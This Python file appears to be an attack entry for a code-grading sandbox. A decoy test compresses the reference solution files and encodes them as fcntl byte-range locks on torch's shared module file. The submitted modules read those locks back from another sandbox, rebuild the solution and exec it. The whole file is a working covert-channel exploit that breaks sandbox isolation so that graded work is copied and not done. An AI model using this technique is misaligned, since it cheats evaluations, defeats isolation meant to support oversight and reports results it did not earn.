# /// attack
# tries = "hands in nothing but one test, which reads the solution that it is laid over and spells it out in locks on a file of the interpreter's, which all sandboxes share; the parts read it there and become it"
# base = "blank"
# only = "[msv]*"
# fails = ["matmul.*", "scan.*", "gpt.*", "cache.*"]
# ///
COMMON = """
import fcntl, os, struct, sys, time, zlib
import torch

REGION, WORD = 44, 5
FILE = os.open(torch.__file__, os.O_RDONLY)


def lock(kind, start, length):
    return struct.pack("hhqqi4x", kind, 0, start, length, 0)
"""
TEST = (
    COMMON
    + """
def tell():
    data = zlib.compress("\\0".join(open(f"/submission/{part}.py").read() for part in ("minigpt", "matmul", "scan")).encode(), 9)
    words = [data[i : i + WORD].ljust(WORD, b"\\0") for i in range(0, len(data), WORD)]
    for i, word in enumerate([len(data).to_bytes(WORD, "little"), *words]):
        fcntl.fcntl(FILE, 37, lock(fcntl.F_RDLCK, (i << REGION) + 2 * int.from_bytes(word, "little"), 1))


def test_nothing():
    tell()
    time.sleep(5)
"""
)
PART = (
    COMMON
    + """
def word(i):
    kind, _, start, _, _ = struct.unpack("hhqqi4x", fcntl.fcntl(FILE, 36, lock(fcntl.F_WRLCK, i << REGION, 1 << REGION)))
    return None if kind == fcntl.F_UNLCK else ((start - (i << REGION)) // 2).to_bytes(WORD, "little")


def hear(at):
    until = time.monotonic() + 9
    while time.monotonic() < until:
        size = word(0)
        if size:
            size = int.from_bytes(size, "little")
            words = [word(i + 1) for i in range(-(-size // WORD))]
            if None not in words:
                return zlib.decompress(b"".join(words)[:size]).decode().split("\\0")[at]
        time.sleep(0.05)
    raise TimeoutError("nobody told")


text = hear(@AT@)
print("heard", len(text), "characters")
exec(compile(text, __file__, "exec"), globals())
"""
)


def build(home):
    for at, part in enumerate(("minigpt", "matmul", "scan")):
        (home / f"{part}.py").write_text(PART.replace("@AT@", str(at)))
    (home / "tests").mkdir()
    (home / "tests" / "test_all.py").write_text(TEST)
    return home
